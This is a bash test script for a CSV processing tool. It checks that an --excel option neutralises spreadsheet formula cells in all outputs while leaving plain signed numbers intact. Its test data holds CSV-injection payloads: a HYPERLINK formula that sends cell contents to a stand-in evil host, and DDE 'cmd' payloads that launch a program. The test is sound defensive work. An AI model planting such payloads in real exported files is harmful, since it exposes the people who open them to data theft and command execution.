#!/usr/bin/env bash
# --excel neutralises every cell that a spreadsheet would run as a formula (starting
# with = + - @, tab or CR) in every text column of every CSV that ingest, segment and
# schedule-attempts write (outputs, rejects, exclusions, fallback). Plain numbers (-5.00,
# +528713915055) stay as they are. The payloads go into names, models, addresses, e-mails,
# notes and raw rejected values.
set -u
retorno=$(realpath "$1")
src=$(realpath "$2")
export RETORNO_SCHEMAS=$src/schemas
python=/usr/bin/python3
work=$(mktemp -d)
trap "rm -rf $work" EXIT; [ -n "${KEEP:-}" ] && trap - EXIT
cd "$work"
fail() { echo "FAIL: $*"; exit 1; }
exports=$src/samples/exports

# 1. ingest --schema raw of an export full of payloads, some rows ragged (to the rejects file).
$python - <<'PY'
import csv
payloads = ['=HYPERLINK("http://evil.example/?"&A1,"ver")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0',
            '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '=1+1', '-5.00', '+528713915055']
with open('raw.csv', 'w', newline='') as f:
    w = csv.writer(f, lineterminator='\n', quoting=csv.QUOTE_ALL)
    w.writerow(['vin', 'name', 'notes'])
    for i, p in enumerate(payloads):
        w.writerow([f'3N1AB7AP{i:09d}', p, p])
    for p in payloads:  # ragged: rejected, the raw value goes to the rejects file
        w.writerow([p, p])
PY
"$retorno" ingest raw.csv --schema raw --excel --quiet --max-reject-rate 1 -o raw_out.csv --rejects raw_rej.csv || fail "ingest raw"

# 2. The demo world, with payloads in the text columns of the canonical tables.
"$retorno" ingest "$exports/recordatorio_servicio.txt" --schema recordatorio --quiet -o vehicles0.csv --rejects vr.csv
"$retorno" ingest "$exports/gestion_spiga.txt" --schema spiga_gestion --quiet --max-reject-rate 1 -o log0.csv --rejects lr.csv
$python "$src/tests/scripts/lib/poison.py" excel vehicles0.csv vehicles.csv customer_name model address city email make color
$python "$src/tests/scripts/lib/poison.py" excel log0.csv log.csv notes agent reason
"$retorno" ingest vehicles.csv --schema vehicles --delimiter , --excel --quiet --max-reject-rate 1 -o vehicles_excel.csv --rejects vehicles_rej.csv || fail "ingest vehicles --excel"
"$retorno" segment --vehicles vehicles.csv --contact-log log.csv --as-of 2018-08-01 --agents '=ANA,@LUIS' --excel --quiet \
  -o list.csv --excluded excl.csv || fail "segment --excel"
"$retorno" segment --vehicles vehicles.csv --contact-log log.csv --as-of 2018-08-01 --agents '=ANA,@LUIS' --quiet \
  -o list_plain.csv --excluded excl_plain.csv || fail "segment"
"$retorno" schedule-attempts --list list_plain.csv --log log.csv --vehicles vehicles.csv --as-of 2018-08-01T08:00 --excel \
  --quiet -o schedule.csv --fallback fallback.csv --dealer "$src/samples/exports/agencia.csv" || fail "schedule-attempts --excel"

$python - raw_out.csv raw_rej.csv vehicles_excel.csv vehicles_rej.csv list.csv excl.csv schedule.csv fallback.csv <<'PY'
import csv, re, sys
number = re.compile(r'^[+-]?[0-9]+(\.[0-9]+)?$')
bad = 0
neutralised = 0
for name in sys.argv[1:]:
    data = open(name, 'rb').read()
    if not data.startswith(b'\xef\xbb\xbf'):
        print(f'FAIL: {name} has no UTF-8 BOM'); bad += 1
    rows = list(csv.reader(data[3:].decode('utf-8').splitlines(keepends=True)))
    if data[3:] and not data.endswith(b'\r\n'):
        print(f'FAIL: {name} does not end in CRLF'); bad += 1
    for ln, row in enumerate(rows, 1):
        for cell in row:
            if cell[:1] in ('=', '+', '-', '@', '\t', '\r') and not number.match(cell):
                print(f'FAIL: {name}:{ln}: formula cell {cell!r}'); bad += 1
            if cell[:2] in ("'=", "'+", "'-", "'@", "'\t", "'\r"):
                neutralised += 1
    print(f'{name}: {len(rows)} rows checked')
if neutralised < 20:
    print(f'FAIL: only {neutralised} neutralised cells: the payloads did not reach the outputs'); bad += 1
# Plain numbers keep their sign: a phone in E.164 and a negative amount.
raw = open('raw_out.csv', encoding='utf-8-sig').read()
for keep in (',-5.00,', ',+528713915055,'):
    if keep not in raw:
        print(f'FAIL: plain number {keep} was altered'); bad += 1
print(f'{neutralised} cells neutralised')
sys.exit(1 if bad else 0)
PY
[ $? = 0 ] || fail "formula cells in --excel output"
echo "ok: excel_injection"
